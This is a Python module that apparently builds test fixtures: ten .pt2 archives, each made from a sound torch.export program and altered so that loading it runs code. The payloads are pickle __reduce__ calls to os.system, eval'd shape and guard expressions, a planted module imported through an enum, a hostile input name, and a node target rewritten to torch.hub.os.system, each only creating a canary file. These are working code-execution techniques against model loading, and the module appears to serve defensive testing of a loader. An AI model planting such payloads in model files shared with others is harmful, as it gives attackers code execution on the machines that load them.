"""Ten `.pt2` files that run code when `torch.export.load` reads them, each made from a sound one.

Every payload creates the file named by `canary`; `PROBES` maps a name to the function that plants it.
"""

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn

Members = dict[str, bytes]


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.linear = nn.Linear(4, 3)
        self.register_buffer("shift", torch.ones(3), persistent=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.linear(x)) + self.shift


def sound_program() -> Members:
    """The members of a sound archive with a dynamic batch, a weight and a constant."""
    buffer = io.BytesIO()
    program = torch.export.export(Net().eval(), (torch.zeros(2, 4),), dynamic_shapes=({0: torch.export.Dim("batch")},))
    torch.export.save(program, buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write(path: Path, members: Members) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


class Payload:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return os.system, (f"touch '{self.canary}'",)


def expression(canary: Path) -> str:
    return f"__import__('os').system('touch {canary}')"


def find(members: Members, end: str) -> str:
    return next(name for name in members if name.endswith(end))


def edit(members: Members, end: str, change: Callable[[dict], None]) -> None:
    name = find(members, end)
    document = json.loads(members[name])
    change(document)
    members[name] = json.dumps(document).encode()


def pickled(canary: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(Payload(canary), buffer)
    return buffer.getvalue()


def sample_inputs(members: Members, canary: Path) -> None:
    members[find(members, "data/sample_inputs/model.pt")] = pickled(canary)


def pickled_weight(members: Members, canary: Path) -> None:
    def change(config: dict) -> None:
        config["config"]["linear.weight"]["use_pickle"] = True
        members[find(members, config["config"]["linear.weight"]["path_name"])] = pickled(canary)

    edit(members, "model_weights_config.json", change)


def pickled_constant(members: Members, canary: Path) -> None:
    def change(config: dict) -> None:
        config["config"]["shift"]["use_pickle"] = True
        members[find(members, config["config"]["shift"]["path_name"])] = pickled(canary)

    edit(members, "model_constants_config.json", change)


def opaque_constant(members: Members, canary: Path) -> None:
    folder = find(members, "model_constants_config.json").rpartition("/")[0]
    members[f"{folder}/opaque_obj_0"] = pickle.dumps(Payload(canary))

    def change(config: dict) -> None:
        config["config"]["object"] = {
            "path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None,
        }  # fmt: skip

    edit(members, "model_constants_config.json", change)


def legacy_weights(members: Members, canary: Path) -> None:
    folder = find(members, "model_weights_config.json").rpartition("/")[0]
    members[f"{folder}/model.pt"] = pickled(canary)


def shape_expression(members: Members, canary: Path) -> None:
    def change(program: dict) -> None:
        for meta in program["graph_module"]["graph"]["tensor_values"].values():
            for size in meta["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = expression(canary)

    edit(members, "models/model.json", change)


def guard(members: Members, canary: Path) -> None:
    edit(members, "models/model.json", lambda program: program.update(guards_code=[expression(canary)]))


def enum_import(members: Members, canary: Path) -> None:
    """The import itself is the payload: a module beside the file, which a worker's folder might hold."""
    module = f"planted_{canary.stem}"
    (canary.parent / f"{module}.py").write_text(f"open({str(canary)!r}, 'w')\n")
    context = json.dumps([{"__enum__": True, "fqn": f"{module}:Kind", "name": "A"}])
    leaf = {"type": None, "context": None, "children_spec": []}
    spec = json.dumps([1, {"type": "builtins.dict", "context": context, "children_spec": [leaf]}])

    def change(program: dict) -> None:
        program["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = spec

    edit(members, "models/model.json", change)


def input_name(members: Members, canary: Path) -> None:
    name = find(members, "models/model.json")
    hostile = f"x={expression(canary)}"
    text = members[name].decode()
    text = text.replace('{"name": "x"}', json.dumps({"name": hostile}))
    text = text.replace('"x": {"dtype"', f'{json.dumps(hostile)}: {{"dtype"')
    text = text.replace('"forward_arg_names": ["x"]', f'"forward_arg_names": [{json.dumps(hostile)}]')
    members[name] = text.encode()


def node_target(members: Members, canary: Path) -> None:
    def change(program: dict) -> None:
        relu = next(n for n in program["graph_module"]["graph"]["nodes"] if "relu" in n["target"])
        relu["target"] = "torch.hub.os.system"
        relu["inputs"] = [{"name": "command", "arg": {"as_string": f"touch '{canary}'"}, "kind": 1}]

    edit(members, "models/model.json", change)


PROBES: dict[str, Callable[[Members, Path], None]] = {
    probe.__name__: probe
    for probe in (
        sample_inputs, pickled_weight, pickled_constant, opaque_constant, legacy_weights,
        shape_expression, guard, enum_import, input_name, node_target,
    )
}  # fmt: skip
